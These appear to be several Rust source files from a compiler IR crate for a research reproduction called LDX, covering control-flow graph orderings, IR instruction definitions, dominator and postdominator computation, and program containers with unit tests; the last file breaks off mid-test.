/// deleting loop back edges and exit edges and adding dummy edges (paper
/// Algorithm 3), so a `None` here indicates an irreducible input.
pub fn topo_order(n: usize, edges: &[(BlockId, BlockId)]) -> Option<Vec<BlockId>> {
    let mut indegree = vec![0usize; n];
    let mut adj = vec![Vec::new(); n];
    for (u, v) in edges {
        adj[u.index()].push(*v);
        indegree[v.index()] += 1;
    }
    let mut queue: Vec<BlockId> = (0..n as u32)
        .map(BlockId)
        .filter(|b| indegree[b.index()] == 0)
        .collect();
    let mut order = Vec::with_capacity(n);
    while let Some(b) = queue.pop() {
        order.push(b);
        for &s in &adj[b.index()] {
            indegree[s.index()] -= 1;
            if indegree[s.index()] == 0 {
                queue.push(s);
            }
        }
    }
    (order.len() == n).then_some(order)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use ldx_lang::compile;

    fn lower_main(src: &str) -> FuncBody {
        let p = lower(&compile(src).unwrap());
        let id = p.main();
        p.func(id).clone()
    }

    #[test]
    fn straight_line_rpo_is_single_block() {
        let f = lower_main("fn main() { let x = 1; }");
        assert_eq!(reverse_postorder(&f), vec![f.entry]);
    }

    #[test]
    fn rpo_starts_at_entry_and_visits_all_reachable() {
        let f = lower_main("fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } }");
        let rpo = reverse_postorder(&f);
        assert_eq!(rpo[0], f.entry);
        assert_eq!(rpo.len(), f.blocks.len());
    }

    #[test]
    fn rpo_orders_predecessors_before_successors_in_dags() {
        let f = lower_main("fn main() { let x = 1; if (x) { x = 2; } x = 4; }");
        let rpo = reverse_postorder(&f);
        let pos: Vec<usize> = f
            .block_ids()
            .map(|b| rpo.iter().position(|&x| x == b).unwrap())
            .collect();
        for b in f.block_ids() {
            for s in f.block(b).term.successors() {
                assert!(
                    pos[b.index()] < pos[s.index()],
                    "DAG RPO must order {b} before {s}"
                );
            }
        }
    }

    #[test]
    fn predecessors_inverts_successors() {
        let f = lower_main("fn main() { let i = 0; while (i < 3) { i = i + 1; } }");
        let preds = predecessors(&f);
        for b in f.block_ids() {
            for s in f.block(b).term.successors() {
                assert!(preds[s.index()].contains(&b));
            }
        }
        // The loop header must have two predecessors: entry and latch.
        let header = f.block(f.entry).term.successors()[0];
        assert_eq!(preds[header.index()].len(), 2);
    }

    #[test]
    fn topo_order_rejects_cycles() {
        let edges = vec![(BlockId(0), BlockId(1)), (BlockId(1), BlockId(0))];
        assert!(topo_order(2, &edges).is_none());
    }

    #[test]
    fn topo_order_sorts_dag() {
        let edges = vec![
            (BlockId(0), BlockId(2)),
            (BlockId(2), BlockId(1)),
            (BlockId(0), BlockId(1)),
        ];
        let order = topo_order(3, &edges).unwrap();
        let pos: Vec<usize> = (0..3)
            .map(|i| order.iter().position(|b| b.index() == i).unwrap())
            .collect();
        assert!(pos[0] < pos[2] && pos[2] < pos[1]);
    }

    #[test]
    fn topo_order_handles_disconnected_nodes() {
        let order = topo_order(3, &[(BlockId(0), BlockId(1))]).unwrap();
        assert_eq!(order.len(), 3);
    }
}
