//! IR instructions, terminators, and constants.

use crate::program::{BlockId, FuncId, GlobalId, LocalId, LoopId, SiteId};
use ldx_lang::{BinaryOp, LibFn, Syscall, UnaryOp};

/// A compile-time constant (global initializers, literals).
#[derive(Debug, Clone, PartialEq)]
pub enum Const {
    /// An integer constant.
    Int(i64),
    /// A string constant.
    Str(String),
    /// An array of constants.
    Array(Vec<Const>),
}

/// A straight-line IR instruction.
///
/// The register machine is deliberately simple: every operand and result is
/// a function-frame slot ([`LocalId`]). The instrumentation-specific
/// variants (`CntAdd`, `LoopEnter`, `LoopBackedge`, `LoopExit`) are emitted
/// only by the `ldx-instrument` pass, never by lowering.
#[derive(Debug, Clone, PartialEq)]
pub enum Instr {
    /// `dst = const`
    Const {
        /// Destination slot.
        dst: LocalId,
        /// The constant value.
        value: Const,
    },
    /// `dst = src`
    Copy {
        /// Destination slot.
        dst: LocalId,
        /// Source slot.
        src: LocalId,
    },
    /// `dst = globals[global]`
    LoadGlobal {
        /// Destination slot.
        dst: LocalId,
        /// Which global to read.
        global: GlobalId,
    },
    /// `globals[global] = src`
    StoreGlobal {
        /// Which global to write.
        global: GlobalId,
        /// Source slot.
        src: LocalId,
    },
    /// `globals[global][index] = src` — in-place element store, performed
    /// atomically with respect to other Lx threads.
    StoreIndexGlobal {
        /// Which global array to mutate.
        global: GlobalId,
        /// Slot holding the element index.
        index: LocalId,
        /// Slot holding the new element value.
        src: LocalId,
    },
    /// `local[index] = src` — element store into a local array.
    StoreIndexLocal {
        /// The local array slot.
        local: LocalId,
        /// Slot holding the element index.
        index: LocalId,
        /// Slot holding the new element value.
        src: LocalId,
    },
    /// `dst = op operand`
    Unary {
        /// Destination slot.
        dst: LocalId,
        /// The operator.
        op: UnaryOp,
        /// Operand slot.
        operand: LocalId,
    },
    /// `dst = lhs op rhs` (non-short-circuiting operators only; `&&`/`||`
    /// are lowered to control flow).
    Binary {
        /// Destination slot.
        dst: LocalId,
        /// The operator.
        op: BinaryOp,
        /// Left operand slot.
        lhs: LocalId,
        /// Right operand slot.
        rhs: LocalId,
    },
    /// `dst = base[index]`
    Index {
        /// Destination slot.
        dst: LocalId,
        /// Slot holding the array or string.
        base: LocalId,
        /// Slot holding the index.
        index: LocalId,
    },
    /// `dst = [elems...]`
    MakeArray {
        /// Destination slot.
        dst: LocalId,
        /// Slots holding the elements.
        elems: Vec<LocalId>,
    },
    /// `dst = &func`
    FuncRef {
        /// Destination slot.
        dst: LocalId,
        /// The referenced function.
        func: FuncId,
    },
    /// `dst = func(args...)` — a direct call to a user function.
    ///
    /// `fresh_frame` is set by the instrumentation pass for calls that
    /// participate in recursion (call-graph cycles); such calls save the
    /// progress counter, reset it to zero, and restore on return, exactly
    /// like indirect calls (paper §5–6).
    Call {
        /// Destination slot for the return value.
        dst: LocalId,
        /// The callee.
        func: FuncId,
        /// Argument slots.
        args: Vec<LocalId>,
        /// Call site id (the "PC" for alignment purposes).
        site: SiteId,
        /// Whether the progress counter gets a fresh frame for this call.
        fresh_frame: bool,
    },
    /// `dst = callee(args...)` — an indirect call through a function
    /// reference. Always a fresh counter frame (paper §6).
    CallIndirect {
        /// Destination slot for the return value.
        dst: LocalId,
        /// Slot holding the function reference.
        callee: LocalId,
        /// Argument slots.
        args: Vec<LocalId>,
        /// Call site id.
        site: SiteId,
    },
    /// `dst = libfn(args...)` — a pure library function.
    CallLib {
        /// Destination slot.
        dst: LocalId,
        /// Which library function.
        lib: LibFn,
        /// Argument slots.
        args: Vec<LocalId>,
    },
    /// `dst = syscall(args...)` — a virtual syscall, routed through the
    /// execution's syscall dispatcher. Contributes `+1` to the static
    /// progress counter (paper §4.1).
    Syscall {
        /// Destination slot for the syscall result.
        dst: LocalId,
        /// Which syscall.
        sys: Syscall,
        /// Argument slots.
        args: Vec<LocalId>,
        /// Syscall site id (the "PC" for alignment purposes).
        site: SiteId,
    },

    // ------- Instrumentation-emitted instructions (paper Algorithms 1 & 3).
    /// `cnt += delta` — edge compensation inserted by Algorithm 1 (always
    /// `delta > 0`; backedge resets use [`Instr::LoopBackedge`]).
    CntAdd {
        /// The compensation amount.
        delta: u64,
    },
    /// Entry edge of an instrumented loop: pushes iteration epoch 0 for
    /// `loop_id` onto the frame's loop stack.
    LoopEnter {
        /// Which loop is being entered.
        loop_id: LoopId,
    },
    /// A loop backedge: synchronizes with the peer execution at the
    /// iteration boundary (the "barrier" of paper §5), increments the
    /// iteration epoch, and resets the counter by `sub` so the next
    /// iteration starts from the header value.
    LoopBackedge {
        /// Which loop's backedge this is.
        loop_id: LoopId,
        /// Amount subtracted from the counter (`cnt[t] - cnt[h]`).
        sub: u64,
    },
    /// A loop exit edge: pops the iteration epoch and raises the counter by
    /// `add` (`cnt[n] - cnt[u]`), making post-loop counter values strictly
    /// larger than any value inside the loop.
    LoopExit {
        /// Which loop is being exited.
        loop_id: LoopId,
        /// Amount added to the counter.
        add: u64,
    },
}

impl Instr {
    /// The syscall this instruction performs, if any.
    pub fn as_syscall(&self) -> Option<Syscall> {
        match self {
            Instr::Syscall { sys, .. } => Some(*sys),
            _ => None,
        }
    }

    /// The local this instruction (re)defines, if any, together with
    /// whether the definition is *strong* (overwrites the whole slot) or
    /// *weak* (an in-place element store: prior contents survive).
    pub fn defined_local(&self) -> Option<(LocalId, bool)> {
        match self {
            Instr::Const { dst, .. }
            | Instr::Copy { dst, .. }
            | Instr::LoadGlobal { dst, .. }
            | Instr::Unary { dst, .. }
            | Instr::Binary { dst, .. }
            | Instr::Index { dst, .. }
            | Instr::MakeArray { dst, .. }
            | Instr::FuncRef { dst, .. }
            | Instr::Call { dst, .. }
            | Instr::CallIndirect { dst, .. }
            | Instr::CallLib { dst, .. }
            | Instr::Syscall { dst, .. } => Some((*dst, true)),
            Instr::StoreIndexLocal { local, .. } => Some((*local, false)),
            Instr::StoreGlobal { .. }
            | Instr::StoreIndexGlobal { .. }
            | Instr::CntAdd { .. }
            | Instr::LoopEnter { .. }
            | Instr::LoopBackedge { .. }
            | Instr::LoopExit { .. } => None,
        }
    }

    /// Every local this instruction reads, in operand order (duplicates
    /// possible). `StoreIndexLocal` reads the array it mutates: the
    /// surviving elements make the result depend on the old value.
    pub fn used_locals(&self) -> Vec<LocalId> {
        match self {
            Instr::Const { .. }
            | Instr::LoadGlobal { .. }
            | Instr::FuncRef { .. }
            | Instr::CntAdd { .. }
            | Instr::LoopEnter { .. }
            | Instr::LoopBackedge { .. }
            | Instr::LoopExit { .. } => vec![],
            Instr::Copy { src, .. } | Instr::StoreGlobal { src, .. } => vec![*src],
            Instr::StoreIndexGlobal { index, src, .. } => vec![*index, *src],
            Instr::StoreIndexLocal { local, index, src } => vec![*local, *index, *src],
            Instr::Unary { operand, .. } => vec![*operand],
            Instr::Binary { lhs, rhs, .. } => vec![*lhs, *rhs],
            Instr::Index { base, index, .. } => vec![*base, *index],
            Instr::MakeArray { elems, .. } => elems.clone(),
            Instr::Call { args, .. }
            | Instr::CallLib { args, .. }
            | Instr::Syscall { args, .. } => args.clone(),
            Instr::CallIndirect { callee, args, .. } => {
                let mut v = vec![*callee];
                v.extend(args.iter().copied());
                v
            }
        }
    }

    /// Whether this is one of the instrumentation-emitted instructions.
    pub fn is_instrumentation(&self) -> bool {
        matches!(
            self,
            Instr::CntAdd { .. }
                | Instr::LoopEnter { .. }
                | Instr::LoopBackedge { .. }
                | Instr::LoopExit { .. }
        )
    }
}

/// A basic block terminator.
#[derive(Debug, Clone, PartialEq)]
pub enum Terminator {
    /// Unconditional jump.
    Jump(BlockId),
    /// Two-way branch on the truthiness of `cond`.
    Branch {
        /// Slot holding the condition value.
        cond: LocalId,
        /// Target when true.
        then_bb: BlockId,
        /// Target when false.
        else_bb: BlockId,
    },
    /// Function return with an optional value (defaults to integer 0).
    Return(Option<LocalId>),
}

impl Terminator {
    /// The local this terminator reads (branch condition, return value).
    pub fn used_local(&self) -> Option<LocalId> {
        match self {
            Terminator::Jump(_) | Terminator::Return(None) => None,
            Terminator::Branch { cond, .. } => Some(*cond),
            Terminator::Return(Some(v)) => Some(*v),
        }
    }

    /// Successor blocks, in branch order.
    pub fn successors(&self) -> Vec<BlockId> {
        match self {
            Terminator::Jump(b) => vec![*b],
            Terminator::Branch {
                then_bb, else_bb, ..
            } => vec![*then_bb, *else_bb],
            Terminator::Return(_) => vec![],
        }
    }

    /// Rewrites every successor equal to `from` into `to` (used by edge
    /// splitting in the instrumentation pass).
    pub fn retarget(&mut self, from: BlockId, to: BlockId) {
        match self {
            Terminator::Jump(b) => {
                if *b == from {
                    *b = to;
                }
            }
            Terminator::Branch {
                then_bb, else_bb, ..
            } => {
                if *then_bb == from {
                    *then_bb = to;
                }
                if *else_bb == from {
                    *else_bb = to;
                }
            }
            Terminator::Return(_) => {}
        }
    }
}

/// A basic block: straight-line instructions plus a terminator.
#[derive(Debug, Clone, PartialEq)]
pub struct BasicBlock {
    /// The instructions, executed in order.
    pub instrs: Vec<Instr>,
    /// The terminator deciding the successor.
    pub term: Terminator,
}

impl BasicBlock {
    /// An empty block ending in the given terminator.
    pub fn new(term: Terminator) -> Self {
        BasicBlock {
            instrs: Vec::new(),
            term,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn successors_of_each_terminator() {
        assert_eq!(Terminator::Jump(BlockId(2)).successors(), vec![BlockId(2)]);
        assert_eq!(
            Terminator::Branch {
                cond: LocalId(0),
                then_bb: BlockId(1),
                else_bb: BlockId(2),
            }
            .successors(),
            vec![BlockId(1), BlockId(2)]
        );
        assert!(Terminator::Return(None).successors().is_empty());
    }

    #[test]
    fn retarget_rewrites_matching_successors() {
        let mut t = Terminator::Branch {
            cond: LocalId(0),
            then_bb: BlockId(1),
            else_bb: BlockId(1),
        };
        t.retarget(BlockId(1), BlockId(5));
        assert_eq!(t.successors(), vec![BlockId(5), BlockId(5)]);

        let mut j = Terminator::Jump(BlockId(3));
        j.retarget(BlockId(9), BlockId(1));
        assert_eq!(j.successors(), vec![BlockId(3)]);
    }

    #[test]
    fn instrumentation_classification() {
        assert!(Instr::CntAdd { delta: 1 }.is_instrumentation());
        assert!(Instr::LoopEnter { loop_id: LoopId(0) }.is_instrumentation());
        assert!(!Instr::Copy {
            dst: LocalId(0),
            src: LocalId(1)
        }
        .is_instrumentation());
    }

    #[test]
    fn def_use_classification() {
        let weak = Instr::StoreIndexLocal {
            local: LocalId(3),
            index: LocalId(1),
            src: LocalId(2),
        };
        assert_eq!(weak.defined_local(), Some((LocalId(3), false)));
        assert_eq!(weak.used_locals(), vec![LocalId(3), LocalId(1), LocalId(2)]);
        let strong = Instr::Binary {
            dst: LocalId(0),
            op: ldx_lang::BinaryOp::Add,
            lhs: LocalId(1),
            rhs: LocalId(2),
        };
        assert_eq!(strong.defined_local(), Some((LocalId(0), true)));
        assert_eq!(strong.used_locals(), vec![LocalId(1), LocalId(2)]);
        assert_eq!(Instr::CntAdd { delta: 1 }.defined_local(), None);
        assert!(Instr::CntAdd { delta: 1 }.used_locals().is_empty());
        let icall = Instr::CallIndirect {
            dst: LocalId(0),
            callee: LocalId(4),
            args: vec![LocalId(5)],
            site: SiteId(0),
        };
        assert_eq!(icall.used_locals(), vec![LocalId(4), LocalId(5)]);
    }

    #[test]
    fn terminator_uses() {
        assert_eq!(Terminator::Jump(BlockId(0)).used_local(), None);
        assert_eq!(
            Terminator::Branch {
                cond: LocalId(7),
                then_bb: BlockId(0),
                else_bb: BlockId(1),
            }
            .used_local(),
            Some(LocalId(7))
        );
        assert_eq!(
            Terminator::Return(Some(LocalId(2))).used_local(),
            Some(LocalId(2))
        );
        assert_eq!(Terminator::Return(None).used_local(), None);
    }

    #[test]
    fn syscall_extraction() {
        let i = Instr::Syscall {
            dst: LocalId(0),
            sys: Syscall::Read,
            args: vec![],
            site: SiteId(0),
        };
        assert_eq!(i.as_syscall(), Some(Syscall::Read));
        assert_eq!(Instr::CntAdd { delta: 1 }.as_syscall(), None);
    }
}
