//! Dominator and postdominator computation.
//!
//! Uses the Cooper–Harvey–Kennedy iterative algorithm over reverse
//! postorder. Dominators identify loop back edges (paper Algorithm 3
//! operates on natural loops); postdominators identify branch join points,
//! which the control-dependence-tracking taint baseline needs to pop its
//! implicit-flow scopes.

use crate::cfg::{predecessors, reverse_postorder};
use crate::program::{BlockId, FuncBody};

/// The immediate-dominator tree of a function's CFG.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dominators {
    /// `idom[b]` is the immediate dominator of `b`; `None` for the entry
    /// and for unreachable blocks.
    idom: Vec<Option<BlockId>>,
    entry: BlockId,
}

impl Dominators {
    /// Computes dominators for `func`.
    pub fn compute(func: &FuncBody) -> Self {
        let rpo = reverse_postorder(func);
        let preds = predecessors(func);
        Self::solve(func.blocks.len(), func.entry, &rpo, |b| {
            preds[b.index()].clone()
        })
    }

    fn solve(
        n: usize,
        entry: BlockId,
        rpo: &[BlockId],
        preds: impl Fn(BlockId) -> Vec<BlockId>,
    ) -> Self {
        let mut rpo_pos = vec![usize::MAX; n];
        for (i, &b) in rpo.iter().enumerate() {
            rpo_pos[b.index()] = i;
        }
        let mut idom: Vec<Option<BlockId>> = vec![None; n];
        idom[entry.index()] = Some(entry);

        let intersect = |idom: &[Option<BlockId>], mut a: BlockId, mut b: BlockId| -> BlockId {
            while a != b {
                while rpo_pos[a.index()] > rpo_pos[b.index()] {
                    a = idom[a.index()].expect("processed block has idom");
                }
                while rpo_pos[b.index()] > rpo_pos[a.index()] {
                    b = idom[b.index()].expect("processed block has idom");
                }
            }
            a
        };

        let mut changed = true;
        while changed {
            changed = false;
            for &b in rpo.iter().skip(1) {
                let mut new_idom: Option<BlockId> = None;
                for p in preds(b) {
                    if idom[p.index()].is_none() {
                        continue;
                    }
                    new_idom = Some(match new_idom {
                        None => p,
                        Some(cur) => intersect(&idom, cur, p),
                    });
                }
                if new_idom.is_some() && idom[b.index()] != new_idom {
                    idom[b.index()] = new_idom;
                    changed = true;
                }
            }
        }
        // Normalize: the entry's idom is conventionally itself during the
        // fixpoint but `None` in the public API.
        idom[entry.index()] = None;
        Dominators { idom, entry }
    }

    /// The immediate dominator of `b` (`None` for the entry and for
    /// unreachable blocks).
    pub fn idom(&self, b: BlockId) -> Option<BlockId> {
        self.idom[b.index()]
    }

    /// Whether `a` dominates `b` (reflexive: every block dominates itself).
    pub fn dominates(&self, a: BlockId, b: BlockId) -> bool {
        let mut cur = b;
        loop {
            if cur == a {
                return true;
            }
            match self.idom[cur.index()] {
                Some(next) => cur = next,
                None => return cur == a && cur == self.entry,
            }
        }
    }
}

/// The immediate-postdominator relation, computed on the reversed CFG with
/// a virtual exit joining all `Return` blocks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PostDominators {
    /// `ipdom[b]`: immediate postdominator, where `None` means the virtual
    /// exit (i.e. `b` has no real postdominator).
    ipdom: Vec<Option<BlockId>>,
}

impl PostDominators {
    /// Computes postdominators for `func`.
    pub fn compute(func: &FuncBody) -> Self {
        let n = func.blocks.len();
        // Virtual exit gets index n in the augmented graph.
        let exit = BlockId(n as u32);
        let aug_n = n + 1;

        // Reversed edges: preds of the reversed graph = successors of the
        // original; returns get an edge to the virtual exit.
        let mut rev_succ: Vec<Vec<BlockId>> = vec![Vec::new(); aug_n]; // reversed graph successors = original preds
        let mut rev_pred: Vec<Vec<BlockId>> = vec![Vec::new(); aug_n];
        for b in func.block_ids() {
            let succs = func.block(b).term.successors();
            if succs.is_empty() {
                rev_succ[exit.index()].push(b);
                rev_pred[b.index()].push(exit);
            }
            for s in succs {
                rev_succ[s.index()].push(b);
                rev_pred[b.index()].push(s);
            }
        }

        // RPO of the reversed graph starting at the virtual exit.
        let mut visited = vec![false; aug_n];
        let mut post = Vec::with_capacity(aug_n);
        let mut stack = vec![(exit, 0usize)];
        visited[exit.index()] = true;
        while let Some((b, i)) = stack.pop() {
            let succs = &rev_succ[b.index()];
            if i < succs.len() {
                stack.push((b, i + 1));
                let s = succs[i];
                if !visited[s.index()] {
                    visited[s.index()] = true;
                    stack.push((s, 0));
                }
            } else {
                post.push(b);
            }
        }
        post.reverse();

        let doms = Dominators::solve(aug_n, exit, &post, |b| rev_pred[b.index()].clone());
        let ipdom = (0..n)
            .map(|i| match doms.idom(BlockId(i as u32)) {
                Some(d) if d != exit => Some(d),
                _ => None,
            })
            .collect();
        PostDominators { ipdom }
    }

    /// The immediate postdominator of `b`, or `None` if it is the function
    /// exit.
    pub fn ipdom(&self, b: BlockId) -> Option<BlockId> {
        self.ipdom[b.index()]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::instr::Terminator;
    use crate::lower;
    use ldx_lang::compile;

    fn lower_main(src: &str) -> FuncBody {
        let p = lower(&compile(src).unwrap());
        let id = p.main();
        p.func(id).clone()
    }

    #[test]
    fn entry_dominates_everything() {
        let f = lower_main(
            "fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } while (x) { x = x - 1; } }",
        );
        let doms = Dominators::compute(&f);
        for b in f.block_ids() {
            assert!(doms.dominates(f.entry, b), "entry must dominate {b}");
        }
        assert_eq!(doms.idom(f.entry), None);
    }

    #[test]
    fn branch_arms_dominated_by_condition_not_each_other() {
        let f = lower_main("fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } x = 4; }");
        let doms = Dominators::compute(&f);
        let succs = f.block(f.entry).term.successors();
        let (t, e) = (succs[0], succs[1]);
        assert!(doms.dominates(f.entry, t));
        assert!(doms.dominates(f.entry, e));
        assert!(!doms.dominates(t, e));
        assert!(!doms.dominates(e, t));
        // The join's idom is the branch block.
        let join = f.block(t).term.successors()[0];
        assert_eq!(doms.idom(join), Some(f.entry));
    }

    #[test]
    fn loop_header_dominates_body() {
        let f = lower_main("fn main() { let i = 0; while (i < 3) { i = i + 1; } }");
        let doms = Dominators::compute(&f);
        let header = f.block(f.entry).term.successors()[0];
        let Terminator::Branch { then_bb, .. } = f.block(header).term else {
            panic!()
        };
        assert!(doms.dominates(header, then_bb));
        assert!(!doms.dominates(then_bb, header));
    }

    #[test]
    fn join_postdominates_branch() {
        let f = lower_main("fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } x = 4; }");
        let pdoms = PostDominators::compute(&f);
        let succs = f.block(f.entry).term.successors();
        let join = f.block(succs[0]).term.successors()[0];
        assert_eq!(pdoms.ipdom(f.entry), Some(join));
        assert_eq!(pdoms.ipdom(succs[0]), Some(join));
        assert_eq!(pdoms.ipdom(succs[1]), Some(join));
    }

    #[test]
    fn return_block_has_no_postdominator() {
        let f = lower_main("fn main() { let x = 1; }");
        let pdoms = PostDominators::compute(&f);
        assert_eq!(pdoms.ipdom(f.entry), None);
    }

    #[test]
    fn early_return_branch_postdominators() {
        // if (x) { return; } y = 2;  — the branch block's ipdom is the
        // virtual exit (None), because one arm returns.
        let f = lower_main("fn f(x) { if (x) { return 1; } return 2; } fn main() { f(1); }");
        let p = lower(
            &compile("fn f(x) { if (x) { return 1; } return 2; } fn main() { f(1); }").unwrap(),
        );
        let fid = p.func_id("f").unwrap();
        let fb = p.func(fid);
        let pdoms = PostDominators::compute(fb);
        assert_eq!(pdoms.ipdom(fb.entry), None);
        let _ = f;
    }

    #[test]
    fn while_loop_postdominated_by_exit_block() {
        let f = lower_main("fn main() { let i = 0; while (i < 3) { i = i + 1; } i = 9; }");
        let pdoms = PostDominators::compute(&f);
        let header = f.block(f.entry).term.successors()[0];
        let Terminator::Branch {
            then_bb, else_bb, ..
        } = f.block(header).term
        else {
            panic!()
        };
        assert_eq!(pdoms.ipdom(then_bb), Some(header));
        assert_eq!(pdoms.ipdom(header), Some(else_bb));
    }
}
