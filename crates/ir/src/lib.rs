//! Control-flow-graph IR for the LDX reproduction.
//!
//! The paper implements its counter instrumentation as an LLVM pass over
//! function CFGs. This crate provides the equivalent substrate for Lx:
//!
//! * [`lower()`](fn@lower) translates a resolved AST into a register-based IR of basic
//!   blocks ([`IrProgram`], [`FuncBody`], [`BasicBlock`]);
//! * [`cfg`](mod@cfg) computes orderings (reverse postorder, DAG topological order)
//!   and predecessor maps;
//! * [`dom`] computes dominators and postdominators;
//! * [`loops`] detects natural loops (headers, back edges, exit edges) —
//!   exactly the structures paper Algorithm 3 manipulates;
//! * [`callgraph`] builds the call graph with Tarjan SCCs, giving the
//!   reverse topological order paper Algorithm 1 processes functions in and
//!   identifying recursion (which LDX handles like indirect calls, §5–6).
//!
//! The instrumentation pass itself lives in `ldx-instrument`; it rewrites
//! the data structures defined here.

pub mod callgraph;
pub mod cfg;
pub mod display;
pub mod dom;
pub mod instr;
pub mod loops;
pub mod lower;
pub mod program;

pub use callgraph::CallGraph;
pub use instr::{BasicBlock, Const, Instr, Terminator};
pub use loops::{LoopForest, NaturalLoop};
pub use lower::lower;
pub use program::{BlockId, FuncBody, FuncId, GlobalId, IrProgram, LocalId, LoopId, SiteId};
