//! Program-level IR containers and the id newtypes used throughout.

use crate::instr::{BasicBlock, Const, Instr};
use std::collections::HashMap;
use std::fmt;

macro_rules! id_type {
    ($(#[$doc:meta])* $name:ident) => {
        $(#[$doc])*
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub struct $name(pub u32);

        impl $name {
            /// The raw index.
            pub fn index(self) -> usize {
                self.0 as usize
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "{}{}", stringify!($name).chars().next().unwrap().to_ascii_lowercase(), self.0)
            }
        }
    };
}

id_type!(
    /// Identifies a function within an [`IrProgram`].
    FuncId
);
id_type!(
    /// Identifies a basic block within a [`FuncBody`].
    BlockId
);
id_type!(
    /// Identifies a local slot (parameter, named local, or temporary)
    /// within a function frame.
    LocalId
);
id_type!(
    /// Identifies a global variable slot.
    GlobalId
);
id_type!(
    /// Identifies an instrumented natural loop within a function.
    LoopId
);

/// Identifies a call/syscall *site*: a stable per-function sequence number
/// assigned during lowering. `(FuncId, SiteId)` is the "PC" the paper uses
/// when matching syscalls across the master and the slave (§3: syscalls
/// align when counter value, PC, and arguments all agree).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct SiteId(pub u32);

impl SiteId {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Display for SiteId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "s{}", self.0)
    }
}

/// A lowered function body: a CFG of basic blocks plus frame layout.
#[derive(Debug, Clone, PartialEq)]
pub struct FuncBody {
    /// The function's source name.
    pub name: String,
    /// Number of parameters (occupying locals `0..param_count`).
    pub param_count: usize,
    /// Total number of local slots (params + named locals + temporaries).
    pub local_count: usize,
    /// The basic blocks; `blocks[entry.index()]` is the entry block.
    pub blocks: Vec<BasicBlock>,
    /// The entry block (always block 0 as produced by lowering).
    pub entry: BlockId,
    /// Number of distinct call/syscall sites (for dense site tables).
    pub site_count: u32,
    /// Number of instrumented loops (0 before instrumentation).
    pub loop_count: u32,
}

impl FuncBody {
    /// The block with the given id.
    ///
    /// # Panics
    ///
    /// Panics if `id` is out of range.
    pub fn block(&self, id: BlockId) -> &BasicBlock {
        &self.blocks[id.index()]
    }

    /// Mutable access to a block.
    ///
    /// # Panics
    ///
    /// Panics if `id` is out of range.
    pub fn block_mut(&mut self, id: BlockId) -> &mut BasicBlock {
        &mut self.blocks[id.index()]
    }

    /// Appends a new block and returns its id.
    pub fn push_block(&mut self, block: BasicBlock) -> BlockId {
        let id = BlockId(self.blocks.len() as u32);
        self.blocks.push(block);
        id
    }

    /// Allocates a fresh local slot (used by lowering and instrumentation).
    pub fn alloc_local(&mut self) -> LocalId {
        let id = LocalId(self.local_count as u32);
        self.local_count += 1;
        id
    }

    /// Iterates over all block ids in index order.
    pub fn block_ids(&self) -> impl Iterator<Item = BlockId> {
        (0..self.blocks.len() as u32).map(BlockId)
    }

    /// Counts instructions across all blocks (terminators excluded).
    pub fn instr_count(&self) -> usize {
        self.blocks.iter().map(|b| b.instrs.len()).sum()
    }

    /// Iterates over every instruction with its block id.
    pub fn instrs(&self) -> impl Iterator<Item = (BlockId, &Instr)> {
        self.blocks
            .iter()
            .enumerate()
            .flat_map(|(i, b)| b.instrs.iter().map(move |instr| (BlockId(i as u32), instr)))
    }
}

/// A whole lowered program.
#[derive(Debug, Clone, PartialEq)]
pub struct IrProgram {
    /// Function bodies, indexed by [`FuncId`].
    pub functions: Vec<FuncBody>,
    /// Global variable names and constant initializers, indexed by
    /// [`GlobalId`].
    pub globals: Vec<(String, Const)>,
    func_by_name: HashMap<String, FuncId>,
}

impl IrProgram {
    /// Assembles a program; computes the name index.
    pub fn new(functions: Vec<FuncBody>, globals: Vec<(String, Const)>) -> Self {
        let func_by_name = functions
            .iter()
            .enumerate()
            .map(|(i, f)| (f.name.clone(), FuncId(i as u32)))
            .collect();
        IrProgram {
            functions,
            globals,
            func_by_name,
        }
    }

    /// Looks a function up by name.
    pub fn func_id(&self, name: &str) -> Option<FuncId> {
        self.func_by_name.get(name).copied()
    }

    /// The function body for `id`.
    ///
    /// # Panics
    ///
    /// Panics if `id` is out of range.
    pub fn func(&self, id: FuncId) -> &FuncBody {
        &self.functions[id.index()]
    }

    /// The `main` entry point.
    ///
    /// # Panics
    ///
    /// Panics if the program has no `main` (excluded by the resolver).
    pub fn main(&self) -> FuncId {
        self.func_id("main").expect("resolver guarantees `main`")
    }

    /// Iterates over `(FuncId, &FuncBody)` pairs.
    pub fn iter_funcs(&self) -> impl Iterator<Item = (FuncId, &FuncBody)> {
        self.functions
            .iter()
            .enumerate()
            .map(|(i, f)| (FuncId(i as u32), f))
    }

    /// Total instruction count across all functions.
    pub fn instr_count(&self) -> usize {
        self.functions.iter().map(|f| f.instr_count()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::instr::Terminator;

    fn empty_func(name: &str) -> FuncBody {
        FuncBody {
            name: name.to_string(),
            param_count: 0,
            local_count: 0,
            blocks: vec![BasicBlock {
                instrs: vec![],
                term: Terminator::Return(None),
            }],
            entry: BlockId(0),
            site_count: 0,
            loop_count: 0,
        }
    }

    #[test]
    fn id_display() {
        assert_eq!(FuncId(3).to_string(), "f3");
        assert_eq!(BlockId(0).to_string(), "b0");
        assert_eq!(SiteId(9).to_string(), "s9");
    }

    #[test]
    fn program_name_lookup() {
        let p = IrProgram::new(vec![empty_func("main"), empty_func("aux")], vec![]);
        assert_eq!(p.func_id("aux"), Some(FuncId(1)));
        assert_eq!(p.func_id("nope"), None);
        assert_eq!(p.main(), FuncId(0));
    }

    #[test]
    fn alloc_local_grows_frame() {
        let mut f = empty_func("main");
